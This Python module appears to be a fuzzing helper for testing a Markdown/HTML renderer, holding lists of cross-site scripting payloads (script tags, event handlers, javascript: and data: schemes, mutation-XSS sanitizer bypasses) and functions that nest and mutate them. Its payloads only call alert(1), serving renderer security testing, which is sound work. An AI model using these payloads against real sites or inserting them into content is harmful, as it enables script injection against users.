"""Pieces of text from which attacks on a renderer are put together, and ways to put them together."""

from itertools import product
from random import Random
from typing import Final

CALL: Final = "alert(1)"
TAGS: Final = (
    f"<script>{CALL}</script>", f"<img src=x onerror={CALL}>", f"<svg onload={CALL}>", f"<svg><script>{CALL}</script>",
    f"<iframe srcdoc='<script>parent.{CALL}</script>'>", f"<a href=javascript:{CALL} id=x>x</a>", f"<details open ontoggle={CALL}>",
    f"<input autofocus onfocus={CALL}>", f"<style onload={CALL}></style>", f"<body onload={CALL}>", f"<math><mi//xlink:href='data:x,<script>{CALL}</script>'>",
    f"<form><math><mtext></form><form><mglyph><style></math><img src onerror={CALL}>", f"<noscript><p title='</noscript><img src=x onerror={CALL}>'>",
    f"<svg></p><style><a id='</style><img src=1 onerror={CALL}>'>", f"<template><img src=x onerror={CALL}></template>", f"<video src=x onerror={CALL}>",
    f"<audio src onloadstart={CALL}>", f"<object data=data:text/html,<script>{CALL}</script>>", f"<embed src=javascript:{CALL}>", f"<meta http-equiv=refresh content='0;javascript:{CALL}'>",
    f"<select><template><img src=x onerror={CALL}>", f"<marquee onstart={CALL}>", f"<div style=animation:x onanimationstart={CALL}>", f"<xmp><p title='</xmp><svg/onload={CALL}>'>",
)  # fmt: skip
SCHEMES: Final = (
    f"javascript:{CALL}", f"JaVaScRiPt:{CALL}", f"java\tscript:{CALL}", f"java\nscript:{CALL}", f"\x01javascript:{CALL}", f"&#106;avascript:{CALL}",
    f"javascript&colon;{CALL}", f"javascript&#x3A;{CALL}", f"vbscript:{CALL}", f"data:text/html,<script>{CALL}</script>", f"data:image/svg+xml,<svg/onload={CALL}>",
    f"//x@y/javascript:{CALL}", f"https://x/\" onmouseover=\"{CALL}", f"https://x/'onload='{CALL}", f"/\\x/{CALL}", "https://www.youtube.com/watch?v=dQw4w9WgXcQ\"onload=\"" + CALL,
)  # fmt: skip
FRAMES: Final = (
    "{}", "[x]({})", "![x]({})", "<{}>", "[x]: {}\n\n[x]", '[x](https://x "{}")', "![{}](/media/images/x.webp)", '![x](/media/images/x.webp "{}")',
    "`{}`", "```{}\nx\n```", "```html\n{}\n```", "| {} |\n| --- |\n| {} |", "x[^1]\n\n[^1]: {}", "- [x] {}", "> {}", "# {}", "**{}**", "~~{}~~",
    "[x][y]\n\n[y]: <{}> '{}'", "{}\n{}", "\\{}", "&lt;{}", "@{}", "@alice{}", "<!-- {} -->", "<![CDATA[{}]]>", "<a {}>", "</p>{}<p>", "[{}](https://x)", "*{}", "\n\n{}\n\n",
)  # fmt: skip
# Characters that parsers and browsers disagree about.
NOISE: Final = (
    "\x00", "\x0b", "\x0c", "\u00a0", "\u2028", "\u202e", "\ufeff", "\ufffd", "\U000e0041", "&Tab;", "&NewLine;", "&#0;", "&#x3c;", "%0a", "\\", "/", "<", ">", '"', "'", "`", "=", "--",
)  # fmt: skip


def corpus() -> list[str]:
    """Every tag and address in every frame, in a fixed order."""
    return [frame.replace("{}", piece) for piece, frame in product((*TAGS, *SCHEMES), FRAMES)]


def mutated(dice: Random) -> str:
    """A few of them, one in another, with noise in the middle."""
    text = dice.choice((*TAGS, *SCHEMES))
    for _ in range(dice.randint(1, 4)):
        text = dice.choice(FRAMES).replace("{}", text)
        if dice.random() < 0.5:
            place = dice.randrange(len(text))
            text = text[:place] + dice.choice(NOISE) + text[place:]
        if dice.random() < 0.2:
            text += dice.choice((*TAGS, *SCHEMES))
    return text
